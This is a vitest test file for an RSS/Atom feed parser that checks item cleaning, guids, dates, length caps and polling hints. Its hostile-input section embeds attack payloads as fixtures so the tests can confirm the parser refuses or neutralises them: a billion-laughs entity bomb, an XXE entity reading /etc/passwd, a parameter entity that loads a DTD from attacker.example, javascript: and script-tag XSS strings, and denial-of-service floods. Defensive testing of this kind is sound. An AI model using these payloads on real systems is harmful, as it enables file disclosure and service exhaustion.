import Parser from 'rss-parser';
import { describe, expect, it } from 'vitest';
import { FeedError, itemKey, MAX_ITEMS, MAX_SUMMARY, MAX_TITLE, parseFeedText } from '../../../lib/feeds';
import { corpusBytes } from './_corpus';

const fetched = new Date('2025-03-01T12:00:00Z');
const ctx = { sourceId: 'diario', fetched };

async function parseError(xml: string): Promise<FeedError> {
  try {
    await parseFeedText(xml, ctx);
  } catch (e) {
    expect(e).toBeInstanceOf(FeedError);
    return e as FeedError;
  }
  throw new Error('expected parseFeedText to fail');
}

const rss = (items: string, channel = '') =>
  `<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><title>Diario</title><link>https://diario.example/</link>${channel}${items}</channel></rss>`;

describe('parseFeedText: RSS and Atom', () => {
  it('reads an RSS 2.0 feed into clean items', async () => {
    const feed = await parseFeedText(
      rss(
        `<item><title>Paro agrario en &lt;b&gt;Puno&lt;/b&gt;</title><link>https://diario.example/paro?id=1&amp;x=2</link>
         <guid isPermaLink="false">nota-1</guid><pubDate>Mon, 09 Jan 2023 15:30:00 -0500</pubDate>
         <description><![CDATA[<p>Bloqueos en la vía <a href="javascript:alert(1)">Juliaca</a>.</p><script>alert(1)</script>]]></description></item>`,
        '<language>es-PE</language><atom:link rel="hub" href="https://pubsubhubbub.appspot.com/"/>',
      ),
      ctx,
    );
    expect(feed.title).toBe('Diario');
    expect(feed.link).toBe('https://diario.example/');
    expect(feed.hub).toBe('https://pubsubhubbub.appspot.com/');
    expect(feed.recovered).toBeUndefined();
    expect(feed.items).toEqual([
      {
        source: 'diario',
        guid: 'nota-1',
        link: 'https://diario.example/paro?id=1&x=2',
        title: 'Paro agrario en Puno',
        summary: 'Bloqueos en la vía Juliaca.',
        published: '2023-01-09T20:30:00.000Z',
        fetched: '2025-03-01T12:00:00.000Z',
        lang: 'es',
      },
    ]);
  });

  it('reads an Atom feed, resolving relative links against the document URL', async () => {
    const atom = `<?xml version="1.0" encoding="utf-8"?>
      <feed xmlns="http://www.w3.org/2005/Atom">
        <title type="html">Noticias &amp;amp; más</title>
        <link rel="alternate" href="https://noticias.example/"/>
        <link rel="hub" href="https://hub.example/"/>
        <entry>
          <id>tag:noticias.example,2023:1</id>
          <title type="html">&lt;em&gt;Enfrentamientos&lt;/em&gt; en Ayacucho</title>
          <link rel="alternate" href="/2023/ayacucho"/>
          <published>2022-12-15T10:00:00-05:00</published>
          <updated>2022-12-15T12:00:00-05:00</updated>
          <summary type="html">&lt;p&gt;Al menos &lt;b&gt;8&lt;/b&gt; fallecidos&lt;/p&gt;</summary>
          <content type="html">&lt;p&gt;Texto completo&lt;/p&gt;</content>
        </entry>
        <entry>
          <id>tag:noticias.example,2023:2</id>
          <title>Sin fecha válida</title>
          <published>not a date</published>
        </entry>
      </feed>`;
    const feed = await parseFeedText(atom, { ...ctx, baseUrl: 'https://noticias.example/feed.atom' });
    expect(feed.title).toBe('Noticias & más');
    expect(feed.link).toBe('https://noticias.example/');
    expect(feed.hub).toBe('https://hub.example/');
    expect(feed.items).toHaveLength(2);
    expect(feed.items[0]).toMatchObject({
      guid: 'tag:noticias.example,2023:1',
      title: 'Enfrentamientos en Ayacucho',
      link: 'https://noticias.example/2023/ayacucho',
      summary: 'Al menos 8 fallecidos',
      published: '2022-12-15T15:00:00.000Z',
    });
    // An invalid date costs that field only, not the entry or the feed.
    expect(feed.items[1]).toMatchObject({ guid: 'tag:noticias.example,2023:2', title: 'Sin fecha válida', published: null });
  });

  it('reads RSS 1.0 (RDF) and RSS without a version attribute', async () => {
    const rdf = await parseFeedText(corpusBytes('miniflux/parser/testdata/rdf_UTF8.xml').toString('utf8'), ctx);
    expect(rdf.items.length).toBeGreaterThan(10);
    expect(rdf.items[0]!.link).toMatch(/^https:\/\/www\.heise\.de\//);
    const noVersion = await parseFeedText('<rss><channel><item><title>uno</title></item></channel></rss>', ctx);
    expect(noVersion.items.map((i) => i.title)).toEqual(['uno']);
  });
});

describe('parseFeedText: guid, dates, links and caps', () => {
  it('guid falls back to the link, then to a hash of title and date', async () => {
    const feed = await parseFeedText(
      rss(`<item><title>A</title><link>https://diario.example/a</link></item>
           <item><title>B</title><pubDate>Tue, 10 Jan 2023 08:00:00 GMT</pubDate></item>
           <item><title>C</title><pubDate>Tue, 10 Jan 2023 08:00:00 GMT</pubDate></item>
           <item><guid>https://diario.example/perma</guid><title>D</title></item>`),
      ctx,
    );
    const [a, b, c, d] = feed.items;
    expect(a!.guid).toBe('https://diario.example/a');
    expect(b!.guid).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(c!.guid).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(b!.guid).not.toBe(c!.guid);
    const again = await parseFeedText(rss('<item><title>B</title><pubDate>Tue, 10 Jan 2023 08:00:00 GMT</pubDate></item>'), ctx);
    expect(again.items[0]!.guid).toBe(b!.guid);
    // a permalink guid doubles as the link
    expect(d).toMatchObject({ guid: 'https://diario.example/perma', link: 'https://diario.example/perma' });
  });

  it('invalid dates become null; links other than http(s) become null', async () => {
    const feed = await parseFeedText(
      rss(`<item><title>x</title><pubDate>ayer por la tarde</pubDate><link>javascript:alert(document.cookie)</link></item>`),
      ctx,
    );
    expect(feed.items[0]).toMatchObject({ published: null, link: null });
  });

  it('drops entries with nothing in them', async () => {
    const feed = await parseFeedText(rss('<item></item><item><title>real</title></item><item><category>x</category></item>'), ctx);
    expect(feed.items.map((i) => i.title)).toEqual(['real']);
  });

  it(`keeps at most ${MAX_ITEMS} items, ${MAX_TITLE}-character titles and ${MAX_SUMMARY}-character summaries`, async () => {
    const many = Array.from({ length: MAX_ITEMS + 100 }, (_, i) => `<item><title>n${i}</title></item>`).join('');
    const feed = await parseFeedText(rss(many), ctx);
    expect(feed.items).toHaveLength(MAX_ITEMS);
    expect(feed.items[0]!.title).toBe('n0');

    const long = await parseFeedText(
      rss(`<item><title>${'t'.repeat(2_000)}</title><description>${'palabra '.repeat(2_000)}</description></item>`),
      ctx,
    );
    expect(long.items[0]!.title).toHaveLength(MAX_TITLE);
    expect(long.items[0]!.title.endsWith('…')).toBe(true);
    expect(long.items[0]!.summary).toHaveLength(MAX_SUMMARY);
  });

  it('uses the source language when given, else the feed language', async () => {
    const xml = rss('<item><title>x</title></item>', '<language>en-us</language>');
    expect((await parseFeedText(xml, ctx)).items[0]!.lang).toBe('en');
    expect((await parseFeedText(xml, { ...ctx, lang: 'es' })).items[0]!.lang).toBe('es');
  });
});

describe('parseFeedText: hostile and broken documents', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>`;

  const xxe = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>`;

  it('refuses billion laughs', async () => {
    const e = await parseError(billionLaughs);
    expect(e.code).toBe('parse');
    expect(e.message).toContain('refers to other entities');
  });

  it('refuses an external entity (XXE) and a parameter entity', async () => {
    const e = await parseError(xxe);
    expect(e.code).toBe('parse');
    expect(e.message).toContain('external entity "xxe"');
    const pe = await parseError(
      '<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]><rss version="2.0"><channel/></rss>',
    );
    expect(pe.message).toContain('parameter entity');
  });

  it('rss-parser on its own (xml2js/sax) expands neither, so nothing leaks even without the guard', async () => {
    const parser = new Parser();
    for (const doc of [xxe, billionLaughs]) {
      let out = '';
      try {
        out = JSON.stringify(await parser.parseString(doc));
      } catch (e) {
        expect(String(e)).toMatch(/entity/i);
      }
      expect(out).not.toContain('root:');
      expect(out).not.toContain('lollol');
    }
  });

  it('refuses a quadratic blow-up made of one large entity used many times', async () => {
    const refs = '&big;'.repeat(2_000);
    const e = await parseError(
      `<!DOCTYPE rss [ <!ENTITY big "${'x'.repeat(900)}"> ]><rss version="2.0"><channel><title>${refs}</title></channel></rss>`,
    );
    expect(e.message).toContain('entity expansion exceeds');
  });

  it('substitutes plain internal entities and strips any DOCTYPE', async () => {
    const feed = await parseFeedText(corpusBytes('feedparser/wellformed/rss/entity_in_doctype.xml').toString('utf8'), ctx);
    expect(feed.items[0]!.guid).toBe('tag:example.com,2006-05-04:/blog/');
    const xhtml = await parseFeedText(corpusBytes('feedparser/illformed/always_strip_doctype.xml').toString('utf8'), ctx);
    expect(xhtml.title).toBe('found');
  });

  it('understands HTML named entities, which XML does not define', async () => {
    const feed = await parseFeedText(rss('<item><title>Protesta en Cusco&nbsp;&mdash; d&iacute;a 3 &hellip;</title></item>'), ctx);
    expect(feed.items[0]!.title).toBe('Protesta en Cusco — día 3 …');
    expect(feed.recovered).toBeUndefined();
  });

  it('recovers a truncated document and a stray ampersand, and says so', async () => {
    const truncated = await parseFeedText(rss('<item><title>uno</title></item><item><title>dos</title>').slice(0, -20), ctx);
    expect(truncated.items.map((i) => i.title)).toEqual(['uno', 'dos']);
    expect(truncated.recovered).toMatch(/^Unclosed root tag/);

    const amp = await parseFeedText(rss('<item><title>AT&T & Movistar</title></item>'), ctx);
    expect(amp.items[0]!.title).toBe('AT&T & Movistar');
    expect(amp.recovered).toBeDefined();
  });

  it('fails with a one-line parse error when nothing can be recovered', async () => {
    const notFeed = await parseError('<html><head><title>Moved</title></head><body>gone</body></html>');
    expect(notFeed.message).toBe('not an RSS or Atom feed (the document\'s root element is <html>)');
    expect((await parseError('')).message).toBe('empty document: no XML element found');
    expect((await parseError('just some text')).code).toBe('parse');
    const broken = await parseError('<rss version="2.0"><channel><item><title>a</item></channel></rss>');
    expect(broken.message).toMatch(/^ill-formed XML: /);
    expect(broken.message).not.toContain('\n');
  });

  it('stays linear on text with many "<" and no ">" (rss-parser snippet regexes are quadratic)', async () => {
    const description = 'a&lt;p'.repeat(100_000); // 600 KB; with rss-parser's own getSnippet this takes minutes
    const feed = await parseFeedText(rss(`<item><title>x</title><description>${description}</description></item>`), ctx);
    expect(feed.items[0]!.title).toBe('x');
    expect(feed.items[0]!.summary).toBe('a'); // the rest is one unterminated tag, as a browser would read it
  }, 10_000);

  it('stays linear on floods of unterminated comments, CDATA sections, tags and entities', async () => {
    const head = '<rss version="2.0"><channel><item><title>x</title></item>';
    for (const flood of ['<!--'.repeat(100_000), '<![CDATA['.repeat(50_000), '<a b="'.repeat(60_000), '&bogus;'.repeat(60_000), '<p'.repeat(150_000)]) {
      try {
        const feed = await parseFeedText(head + flood, ctx);
        expect(feed.items[0]!.title).toBe('x');
      } catch (e) {
        expect(e).toBeInstanceOf(FeedError);
      }
    }
  }, 10_000);
});

describe('itemKey', () => {
  it('is short, stable, and depends on both source and guid', () => {
    const k = itemKey('diario', 'nota-1');
    expect(k).toMatch(/^[0-9a-f]{20}$/);
    expect(itemKey('diario', 'nota-1')).toBe(k);
    expect(itemKey('diario', 'nota-2')).not.toBe(k);
    expect(itemKey('otro', 'nota-1')).not.toBe(k);
    expect(itemKey('a', 'bc')).not.toBe(itemKey('ab', 'c'));
  });
});

describe('parseFeedText: polling hints', () => {
  it('reads <ttl>, the syndication module period, and the self link', async () => {
    const withTtl = await parseFeedText(rss('<item><title>x</title></item>', '<ttl>45</ttl><atom:link rel="self" href="https://diario.example/rss"/>'), ctx);
    expect(withTtl.ttl).toBe(45);
    expect(withTtl.self).toBe('https://diario.example/rss');
    const sy = rss('<item><title>x</title></item>', '<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency>').replace('<rss ', '<rss xmlns:sy="http://purl.org/rss/1.0/modules/syndication/" ');
    expect((await parseFeedText(sy, ctx)).ttl).toBe(30);
    expect((await parseFeedText(rss('<item><title>x</title></item>', '<ttl>soon</ttl>'), ctx)).ttl).toBeNull();
  });
});
